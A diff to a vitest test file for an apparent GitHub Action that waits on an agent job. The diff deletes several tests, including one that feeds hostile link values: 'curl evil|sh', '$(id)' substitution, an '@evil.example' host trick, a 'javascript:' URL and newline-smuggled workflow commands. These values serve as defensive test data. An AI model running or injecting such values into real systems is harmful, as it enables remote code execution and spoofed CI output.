@@ -1,5 +1,4 @@
 import { afterEach, expect, test } from 'vitest';
-import type { Launched } from '../world/launcher.ts';
 import { atOnce, type RunOptions, runAction } from '../world/runner.ts';
 import { inTurn, type Reply, type StandInService, startService } from '../world/service.ts';
 import { pullRequestOutputs } from './results.ts';
@@ -90,81 +89,9 @@ test('invalid inputs are also listed in the job summary, unless `post-to` is `no
   expect(silent).toMatchObject({ exitCode: 1, summary: '' });
 });
 
-test('fail-on decides which outcomes fail the step', async () => {
+test('an outcome that `fail-on` doesn’t list passes', async () => {
   const passed = await runJob([ended('failed')], { with: { 'fail-on': 'none' } });
   expect(passed).toMatchObject({ exitCode: 0, errors: [], outputs: { outcome: 'failed' } });
-  await service.close();
-  const failed = await runJob([ended('archived')], { with: { 'fail-on': 'archived' } });
-  expect(failed).toMatchObject({ exitCode: 1, outputs: { outcome: 'archived' } });
-});
-
-test('a job that outlasts the step has timed out, and the message says how to keep waiting', async () => {
-  const run = await runJob([active], { with: { 'timeout-minutes': '0.01' } });
-  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'timed-out', status: 'active' } });
-  expect(run.errors).toEqual([
-    expect.stringMatching(
-      /^The agent job had not ended when this step ran out of time\. Job job-1, .* The job may still be running\. To keep waiting, run the same step again\./,
-    ),
-  ]);
-});
-
-test('a job has also timed out if the service fails after its first answer', async () => {
-  const run = await runJob([active, { status: 500 }], { with: { 'timeout-minutes': '0.01' } });
-  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'timed-out', status: 'active' } });
-});
-
-test('a job that was never read is an error for any `fail-on`', async () => {
-  const run = await runJob([{ status: 503 }], {
-    with: { 'timeout-minutes': '0.01', 'fail-on': 'none' },
-  });
-  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: '', status: '' } });
-  expect(run.errors[0]).toMatch(
-    /^No response for agent job job-1 of project acme-docs after \d tr(y|ies), until the deadline\. /,
-  );
-});
-
-test('an unknown status doesn’t end the wait, and is shown if it is a plain word', async () => {
-  const run = await runJob([ended('queued'), ended('queued'), ended('archived')]);
-  expect(run).toMatchObject({ exitCode: 0, outputs: { outcome: 'archived' } });
-  expect(run.warnings).toEqual([
-    `This action doesn't know the job's status "queued". It keeps waiting for a known one.`,
-  ]);
-  await service.close();
-  const hostile = await runJob([ended('::error::x\n##[error]'), ended('archived')]);
-  expect(hostile.warnings).toEqual([
-    "This action doesn't know the job's status. It keeps waiting for a known one.",
-  ]);
-});
-
-test.each([
-  'https://github.com/o/r/pull/1"; curl evil|sh #',
-  'https://github.com/o/r/pull/1$(id)`id`',
-  'https://github.com@evil.example/o/r/pull/1',
-  'javascript:alert(1)//github.com/o/r/pull/1',
-  'https://github.com/o/r/pull/1\n::error::x',
-  'http://github.com/o/r/pull/1',
-])('the link %j is never an output', async (prLink) => {
-  const run = await runJob([ended('completed', prLink)]);
-  expect(run.outputs).toMatchObject({ outcome: 'pull-request', prLink: '', prNumber: '' });
-  expect(JSON.parse(run.outputs.job ?? '')).toMatchObject({ status: 'completed', prLink: null });
-  expect(run.warnings[0]).toMatch(/not a plain https URL/);
-  expect(run.errors).toEqual([]);
-  expect(run.summary).not.toContain('evil');
-});
-
-test('a field that is nested too deep, or too long, is left out alone', async () => {
-  const nested = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
-  const ref = 'b'.repeat(70_000);
-  const run = await runJob([
-    { body: `{"status":"completed","source":{"ref":"${ref}"},"odd":${nested}}` },
-  ]);
-  expect(run).toMatchObject({ exitCode: 0, errors: [], outputs: { outcome: 'no-changes' } });
-  expect(JSON.parse(run.outputs.job ?? '')).toEqual({
-    status: 'completed',
-    source: { ref },
-    prLink: null,
-  });
-  expect(run.summary).toContain(`- Branch: \`${'b'.repeat(199)}…\`\n`);
 });
 
 test.each<'SIGINT' | 'SIGTERM'>(['SIGINT', 'SIGTERM'])('%s ends the wait at once', async (name) => {
@@ -240,40 +167,3 @@ test('the first lines of the log say that a job is started', async () => {
     '',
   ]);
 });
-
-/** When the process is killed (SIGKILL), before the run is attempted again. */
-const moments = {
-  'before its start': { method: 'POST', path: /comments$/, jobs: 0, exitCode: 1 },
-  'once it is started': { method: 'PATCH', path: /comments\/\d+$/, jobs: 1, exitCode: 0 },
-};
-
-test.each(Object.entries(moments))(
-  'a step that is killed %s starts no second job',
-  async (_, { jobs, exitCode, ...request }) => {
-    let started = 0;
-    const scene = await startScene({
-      start: () => {
-        started += 1;
-        return { status: 201, json: { id: 'job-1' } };
-      },
-    });
-    let dying: Launched | undefined;
-    scene.github.faults.push({ ...request, meanwhile: () => dying?.kill('SIGKILL') });
-    const killed = await scene.runBundle({
-      onSpawn: (child) => {
-        dying = child;
-      },
-    });
-    expect(killed.exitCode).toBe(null);
-    expect(started).toBe(jobs);
-    const next = await scene.runBundle({ env: { GITHUB_RUN_ATTEMPT: '2' } });
-    await scene.close();
-    expect(started).toBe(jobs);
-    expect(next.exitCode).toBe(exitCode);
-    // If the start is unknown, the error says so; if it is known, the log names the job.
-    const message = exitCode === 0 ? next.stdout : next.errors[0];
-    expect(message).toMatch(
-      /An earlier attempt of this run may have started|This run has started the job before/,
-    );
-  },
-);
